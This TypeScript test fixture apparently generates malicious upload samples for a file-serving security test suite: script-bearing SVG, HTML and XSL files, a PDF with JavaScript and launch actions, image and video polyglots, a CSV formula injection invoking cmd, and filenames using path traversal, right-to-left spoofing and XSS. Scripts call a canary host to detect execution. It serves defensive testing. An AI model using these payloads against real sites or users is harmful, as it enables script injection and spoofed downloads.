import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import { jpegFile, pngFile } from "#lib/testing/sample-files.ts";
import { zipFile } from "#lib/testing/zip-file.ts";
import type { Sample } from "./sample.ts";

/** A file that means harm, and what it is served as; null where no door may take it. */
export type Harmful = Sample & { as: string | null };

/** What each of them would do if it ran: change the title, open a dialog, call out. */
const payload = (canary: string, from: string) =>
  `document.title="owned";new Image().src="${canary}/${from}/image";fetch("${canary}/${from}/fetch");alert("${from}")`;

const svg = (script: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><script>${script}</script></svg>`;

const page = (script: string) =>
  `<!doctype html><html><title>a page</title><script>${script}</script></html>`;

const stylesheet = (script: string) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>
<x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html></xsl:template></xsl:stylesheet></x>`;

/** A PDF with a script that opens dialogs, starts programs, opens addresses and sends forms. */
async function scriptedPdf(canary: string, name: string): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([200, 200]).drawText(name, { x: 20, y: 100, size: 12 });
  const script = `app.alert("pdf"); app.launchURL("${canary}/pdf/launch"); this.submitForm("${canary}/pdf/form"); fetch("${canary}/pdf/fetch");`;
  pdf.addJavaScript("on-open", script);
  const next = pdf.context.obj({
    Type: "Action",
    S: "Launch",
    F: PDFString.of("/bin/true"),
    Next: pdf.context.obj({ Type: "Action", S: "URI", URI: PDFString.of(`${canary}/pdf/uri`) }),
  });
  const first = pdf.context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(script), Next: next });
  pdf.catalog.set(PDFName.of("OpenAction"), first);
  return Buffer.from(await pdf.save());
}

/** Valid as a picture of one pixel, and as a script: all of the picture is in its comment. */
function gifAndScript(script: string): Buffer {
  const block = (bytes: string) => Buffer.from(bytes, "latin1");
  return Buffer.concat([
    block("GIF89a/*\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"),
    block("\x21\xfe\x04*/=1\x00"),
    block(`;${script};`),
  ]);
}

/** A film of nothing, with a page in a box that no player knows. */
function filmWithPage(html: string): Buffer {
  const box = (type: string, body: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(body.length + 8);
    head.write(type, 4, "latin1");
    return Buffer.concat([head, body]);
  };
  const brand = Buffer.from("isom\0\0\0\0isommp41", "latin1");
  return Buffer.concat([box("ftyp", brand), box("html", Buffer.from(html)), box("mdat", Buffer.alloc(64))]);
}

/** Every file of assurance's "Serving and names", with what `canary` hears of it if it runs. */
export async function harmfulFiles(canary: string): Promise<Harmful[]> {
  const run = (from: string) => payload(canary, from);
  const text = (content: string) => Buffer.from(content);
  const pdf = await scriptedPdf(canary, "polyglot");
  return [
    { name: "dibujo.svg", type: "image/svg+xml", bytes: text(svg(run("svg"))), as: null },
    { name: "página.html", type: "text/html", bytes: text(page(run("html"))), as: null },
    { name: "datos.xml", type: "application/xml", bytes: text(stylesheet(run("xml"))), as: null },
    { name: "guion.js", type: "text/javascript", bytes: text(run("js")), as: null },
    { name: "página.png", type: "image/png", bytes: text(page(run("png"))), as: null },
    { name: "dibujo.jpg", type: "image/jpeg", bytes: text(svg(run("jpg"))), as: null },
    { name: "página.txt", type: "text/plain", bytes: text(page(run("txt"))), as: null },
    { name: "tabla.csv", type: "text/csv", bytes: text(stylesheet(run("csv-xml"))), as: null },
    { name: "foto.pdf", type: "application/pdf", bytes: pngFile("a picture"), as: null },
    {
      name: "factura\u202Efdp.exe",
      type: "application/pdf",
      bytes: await scriptedPdf(canary, "exe"),
      as: null,
    },
    {
      name: "formulario.pdf",
      type: "application/pdf",
      bytes: await scriptedPdf(canary, "form"),
      as: "application/pdf",
    },
    {
      name: "carpeta.pdf",
      type: "application/pdf",
      bytes: Buffer.concat([pdf, zipFile({ "a.html": page(run("zip")) })]),
      as: "application/pdf",
    },
    { name: "guion.gif", type: "image/gif", bytes: gifAndScript(run("gif")), as: "image/gif" },
    {
      name: "políglota.png",
      type: "image/png",
      bytes: Buffer.concat([pngFile("polyglot"), text(page(run("behind")))]),
      as: "image/png",
    },
    {
      name: "cámara.jpg",
      type: "image/jpeg",
      bytes: jpegFile({ app1: text(`Exif\0\0${page(run("exif"))}`) }),
      as: "image/jpeg",
    },
    { name: "película.mp4", type: "video/mp4", bytes: filmWithPage(page(run("mp4"))), as: "video/mp4" },
    {
      name: "notas.txt",
      type: "text/plain",
      bytes: text(`Notas de la clase\n${page(run("text"))}`),
      as: "text/plain",
    },
    {
      name: "alumnos.csv",
      type: "text/csv",
      bytes: text(`Nombre;Nota\n"=cmd|' /C calc'!A0";1\n"${svg(run("csv")).replaceAll('"', '""')}";2\n`),
      as: "text/csv",
    },
  ];
}

/** Names that people, systems and programs stumble over; every one of them is taken, and comes back as it is. */
export const HARD_NAMES = [
  "factura\u202Etxt.gnp.txt",
  "una\\dos.txt",
  "../../subir.txt",
  "%2e%2e%2fsubir.txt",
  `${"🎒".repeat(251)}.txt`,
  "mochila 🎒.txt",
  "mañana.txt".normalize("NFC"),
  "mañana.txt".normalize("NFD"),
  "CON.txt",
  "punto.txt.",
  "espacio.txt ",
  "informe...txt",
  `"comillas" y 'otras'.txt`,
  "=cmd().txt",
  `<img src=x onerror=alert(1)>.txt`,
] as const;
